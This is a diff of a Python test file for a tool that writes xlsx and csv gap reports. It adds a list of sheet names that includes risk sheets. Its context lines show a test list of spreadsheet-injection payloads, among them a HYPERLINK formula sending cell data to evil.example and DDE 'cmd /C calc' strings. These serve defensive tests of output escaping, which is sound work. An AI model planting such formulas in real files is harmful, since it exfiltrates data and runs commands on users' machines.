@@ -37,6 +37,7 @@ from nofakes.supply.loading import load_supply
 FIXTURES = TESTS / "fixtures" / "reports"
 PACK = FIXTURES / "pack.yaml"
 SHEETS = ["Summary", "Gaps", "Remediation plan", "Plan by partner", "Partners", "Rules", "Waivers", "Run"]
+RISK_SHEETS = [*SHEETS[:5], "Risk", "Highest exposure", *SHEETS[5:]]  # the audit's default: with a risk profile
 PAYLOADS = [  # the first names the company, the next five the partners, the last three the waiver reasons
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "\u202eevil\u202c name\uffff", "+SUM(1+1)",
     "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)", "Nul\x00Bell\x07Esc\x1b[31mName", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0",
@@ -268,7 +269,7 @@ def test_xlsx_is_a_binary_format_and_the_cli_writes_both_formats(tmp_path: Path)
                                      "-o", str(target)])
         assert result.exit_code in (0, 1), result.output
         assert f"wrote {fmt} report to {target}" in result.stderr
-    assert openpyxl.load_workbook(tmp_path / "gaps.xlsx").sheetnames == SHEETS
+    assert openpyxl.load_workbook(tmp_path / "gaps.xlsx").sheetnames == RISK_SHEETS
     assert (tmp_path / "gaps.csv").read_bytes().startswith("\ufeffSeverity,Status".encode())
 
 
